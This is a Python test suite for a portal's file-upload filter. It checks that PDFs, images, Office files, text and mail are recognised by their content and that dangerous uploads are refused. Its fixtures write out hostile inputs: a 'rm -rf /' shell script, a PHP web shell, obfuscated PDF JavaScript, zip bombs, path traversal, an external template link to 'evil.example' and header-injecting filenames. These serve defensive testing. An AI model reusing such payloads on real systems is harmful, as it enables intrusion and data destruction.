"""What people may add, and what is told apart from it by its content."""

import io
import signal
import zipfile
import zlib
from email.message import EmailMessage

import pytest

from portal.engine.files import ALLOWED, Kind, Unwelcome, Why, clean_name, sniff, told_apart

PDF = b"%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\ntrailer <<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 17 + b"\x00\x00\x00\x00IEND\xaeB`\x82"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 20 + b"\xff\xd9"
WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 " + b"\x00" * 20
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def office(main="xl/workbook.xml", **more):
    """A small OOXML package; `more`: further parts, dots and slashes written as they are in `parts`."""
    return packed({"[Content_Types].xml": b"<Types/>", main: b"<workbook/>", **more.get("parts", {})})


def packed(parts, how=zipfile.ZIP_DEFLATED):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", how) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return file.getvalue()


def in_lzma():
    """Packed in a way that Office knows nothing of; and damaged."""
    whole = packed({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<w/>" * 50}, zipfile.ZIP_LZMA)
    return whole.replace(b"]\x00\x00\x80\x00", b"\xff\x00\x00\x80\x00")


def relation(**more):
    words = {"Type": "http://x/attachedTemplate", "Target": "http://x.example/t", "TargetMode": "External"}
    pairs = " ".join(f'{name}="{value}"' for name, value in {**words, **more}.items())
    return f"<Relationships><Relationship {pairs}/></Relationships>"


def related(words, encoding="utf-8"):
    return office("word/document.xml", parts={"word/_rels/settings.xml.rels": words.encode(encoding)})


def mail(*files, **head):
    message = EmailMessage()
    message["From"] = "Bob <bob@brandt.example>"
    message["Subject"] = head.get("subject", "The drawing")
    message["Date"] = "Fri, 2 Oct 2026 11:06:00 +0200"
    message.set_content("See below.")
    message.add_alternative("<html><body>See <b>below</b>.</body></html>", subtype="html")
    for name, content in files:
        message.add_attachment(content, maintype="application", subtype="octet-stream", filename=name)
    return message.as_bytes()


@pytest.mark.parametrize(
    ("content", "name", "kind"),
    [
        (PDF, "CMR 14 Sep.pdf", Kind.PDF),
        (PDF, "no ending at all", Kind.PDF),
        (PNG, "x.jpg", Kind.PNG),
        (JPEG, "photo.JPG", Kind.JPEG),
        (JPEG + b"a clip of three seconds", "motion.jpg", Kind.JPEG),
        (WEBP, "x.webp", Kind.WEBP),
        (office(), "x.xlsx", Kind.XLSX),
        (office("word/document.xml"), "x.zip", Kind.DOCX),
        (
            office(parts={"xl/printerSettings/printerSettings1.bin": b"A4"}),
            "printed.xlsx",
            Kind.XLSX,
        ),
        (
            related(relation(Type="http://x/hyperlink", Target="http://x.example/oleObject/frame")),
            "linked.docx",
            Kind.DOCX,
        ),
        (b"Wir waren am Tag bereit. 3 < 4", "note.txt", Kind.TXT),
        ("größer".encode("cp1252"), "note", Kind.TXT),
        ("größer".encode("utf-16"), "note.txt", Kind.TXT),
        (b"line;day\n10;2026-09-14\n", "dock.csv", Kind.CSV),
        (mail(("cmr.pdf", PDF)), "mail.eml", Kind.EML),
        (mail(), "saved without an ending", Kind.EML),
    ],
)
def test_what_is_welcome_is_known_by_its_content(content, name, kind):
    assert sniff(content, name) == kind


SCRIPT = b"<< /S /JavaScript /J#53 (app.alert(1)) >>"


def packed_script(kind=b"/ObjStm", before=b""):
    """A PDF whose script hides in a packed stream of objects, after one with `before`."""
    streams = [zlib.compress(one) for one in (before, SCRIPT)]
    objects = [b"5 0 obj <</Type %s /N 1>>\nstream\n%s\nendstream\n" % (kind, one) for one in streams]
    return b"%PDF-1.7\n" + b"".join(objects) + b"%%EOF"


def boxed(depth):
    """A mail of boxes in boxes."""
    content = b"From: a\nDate: b\nSubject: c\n"
    for one in range(depth):
        content += b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (one, one)
    return content + b"\nwords\n"


def posted(depth):
    """A mail with a mail as its file, and so on: each by its name alone."""
    content = mail()
    for _ in range(depth):
        content = mail(("inner.eml", content))
    return content


def locked():
    content = bytearray(office())
    with zipfile.ZipFile(io.BytesIO(bytes(content))) as archive:
        offset = archive.start_dir
    content[offset + 8] |= 1  # the first entry of the directory says that it is encrypted
    return bytes(content)


@pytest.mark.parametrize(
    ("content", "name", "why"),
    [
        (b"", "x.pdf", Why.EMPTY),
        (EICAR, "harmless.txt", Why.VIRUS),
        (PDF.replace(b"Catalog", EICAR), "x.pdf", Why.VIRUS),
        (office(parts={"xl/notes.xml": EICAR}), "x.xlsx", Why.VIRUS),
        (b"MZ\x90\x00", "photo.jpg", Why.PROGRAM),
        (b"\x7fELF\x02", "x.txt", Why.PROGRAM),
        (b"#!/bin/sh\nrm -rf /\n", "x.txt", Why.SCRIPT),
        (b"echo hello", "run.BAT", Why.SCRIPT),
        (b"<?php system($_GET[0]);", "x.txt", Why.SCRIPT),
        (PDF.replace(b"/Type", b"/OpenAction << /S /J#61vaScript >> /Type"), "x.pdf", Why.SCRIPT),
        (PDF.replace(b"/Type", b"/Launch"), "x.pdf", Why.SCRIPT),
        (packed_script(), "x.pdf", Why.SCRIPT),
        (packed_script(b"/Obj#53tm"), "x.pdf", Why.SCRIPT),
        (packed_script(before=b" " * 9_000_000), "x.pdf", Why.SCRIPT),
        (packed_script(before=b" " * 70_000_000), "x.pdf", Why.BOMB),
        (PDF.replace(b"trailer <<", b"trailer <</Encrypt 9 0 R"), "x.pdf", Why.LOCKED),
        (PDF.replace(b"%%EOF", b""), "half.pdf", Why.DAMAGED),
        (b"\xef\xbb\xbf <!DOCTYPE html><p>", "x.txt", Why.WEB_PAGE),
        (b"Hello <script>alert(1)</script>", "x.txt", Why.WEB_PAGE),
        (b"just words", "x.html", Why.WEB_PAGE),
        ("<html>".encode("utf-16"), "x.txt", Why.WEB_PAGE),
        (b'<?xml version="1.0"?><svg onload="x()"/>', "x.png", Why.DRAWING),
        (b"<?xml version='1.0'?><Order/>", "x.xml", Why.XML),
        (packed({"plan.pdf": PDF}), "x.docx", Why.ARCHIVE),
        (b"\x1f\x8b\x08", "x.pdf", Why.ARCHIVE),
        (locked(), "x.xlsx", Why.LOCKED),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "x.xlsx", Why.OLD_OFFICE),
        (office(parts={"xl/vbaProject.bin": b"x"}), "x.xlsx", Why.MACROS),
        (office(parts={"xl/macrosheets/sheet1.xml": b"x"}), "x.xlsx", Why.MACROS),
        (
            packed({"[Content_Types].xml": b'"vnd.ms-excel.sheet.MacroEnabled"', "xl/workbook.xml": b""}),
            "x.xlsx",
            Why.MACROS,
        ),
        (office("word/document.xml", parts={"word/embeddings/a.xlsx": b"x"}), "x.docx", Why.INSIDE),
        (
            office(
                "word/document.xml",
                parts={
                    "word/_rels/settings.xml.rels": b'<Relationship Type="http://x/attachedTemplate" '
                    b'Target="http://evil.example/t.dotm" TargetMode="External"/>'
                },
            ),
            "x.docx",
            Why.LINKED,
        ),
        (related(relation(TargetMode="&#69;xternal")), "x.docx", Why.LINKED),
        (related(relation(), "utf-16"), "x.docx", Why.DAMAGED),
        (office(parts={"xl/a.xml": b"<!DOCTYPE a [<!ENTITY b 'c'>]>"}), "x.xlsx", Why.DAMAGED),
        (office(parts={"../../etc/passwd": b"x"}), "x.xlsx", Why.DAMAGED),
        (office(parts={"xl/a.xml": b" " * 3_000_000}), "x.xlsx", Why.BOMB),
        (office(parts={f"xl/{n}.xml": b"" for n in range(2001)}), "x.xlsx", Why.BOMB),
        (office(parts={f"xl/{n}.xml": b" " * 1_000_000 for n in range(40)}), "x.xlsx", Why.BOMB),
        (office()[:-30], "x.xlsx", Why.DAMAGED),
        (in_lzma(), "x.xlsx", Why.DAMAGED),
        (b"\x00\x01\x02\x03", "x.txt", Why.UNKNOWN),
        (mail(("run.exe", b"MZ\x90")), "x.eml", Why.PROGRAM),
        (mail(("inner.eml", mail(("deep.js", b"x()")))), "x.eml", Why.SCRIPT),
        (mail(*((f"{n}.txt", b"x") for n in range(120))), "x.eml", Why.BOMB),
        (boxed(3000), "x.eml", Why.BOMB),
        (posted(7), "x.eml", Why.BOMB),
        (b"just words", "x.eml", Why.DAMAGED),
    ],
)
def test_what_could_act_is_not_welcome(content, name, why):
    with pytest.raises(Unwelcome) as refusal:
        sniff(content, name)
    assert refusal.value.what is why


@pytest.fixture
def little_time():
    """Ten seconds of the processor: far more than any of these needs when each byte is read once."""

    def over(signum, frame):
        raise AssertionError("the time goes with the square of the size")

    before = signal.signal(signal.SIGVTALRM, over)
    signal.setitimer(signal.ITIMER_VIRTUAL, 10)
    yield
    signal.setitimer(signal.ITIMER_VIRTUAL, 0)
    signal.signal(signal.SIGVTALRM, before)


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.7\n" + b"/ObjStm " * 100_000 + b"\n%%EOF",
        b"%PDF-1.7\n" + b"/ObjStm stream\n" * 100_000 + b"\n%%EOF",
        office(parts={"xl/_rels/a.rels": b"frame" * 100_000}),
        office(parts={"xl/_rels/a.rels": b"TargetMode='External" * 20_000}),
        office(parts={"xl/a.xml": b"<instrText" * 50_000}),
        office(parts={"xl/a.xml": b"instrText" * 50_000}),
    ],
)
def test_no_file_keeps_the_server_busy(content, little_time):
    assert sniff(content, "x") in ALLOWED


def test_of_a_mail_the_part_is_named():
    with pytest.raises(Unwelcome) as refusal:
        sniff(mail(("cmr.pdf", PDF), ("run.exe", b"MZ\x90")), "x.eml")
    assert refusal.value.part == "run.exe"


@pytest.mark.parametrize(
    ("name", "kind", "clean"),
    [
        ("CMR 14 Sep, signed.pdf", Kind.PDF, "CMR 14 Sep, signed.pdf"),
        ("..\\..\\windows\\a.pdf", Kind.PDF, "a.pdf"),
        ("/etc/passwd", Kind.TXT, "passwd.txt"),
        ("photo.png.exe", Kind.JPEG, "photo.png.exe.jpg"),
        ("run.bat", Kind.TXT, "run.bat.txt"),
        ("gpj\u202etxt.exe", Kind.JPEG, "gpjtxt.exe.jpg"),
        ("a\r\nSet-Cookie: b.pdf", Kind.PDF, "aSet-Cookie_ b.pdf"),
        ("con.txt", Kind.TXT, "_con.txt"),
        ("", Kind.PDF, "file.pdf"),
        (".pdf", Kind.PDF, "pdf.pdf"),
        ("e\u0301.pdf", Kind.PDF, "\u00e9.pdf"),
        ("x" * 300 + ".jpeg", Kind.JPEG, "x" * 115 + ".jpeg"),
    ],
)
def test_names_are_plain(name, kind, clean):
    assert clean_name(name, ALLOWED[kind]) == clean


def test_two_files_of_one_name_are_told_apart():
    assert told_apart("Photo.jpg", ["photo.jpg", "photo (2).jpg"]) == "Photo (3).jpg"
    assert told_apart("other.jpg", ["photo.jpg"]) == "other.jpg"
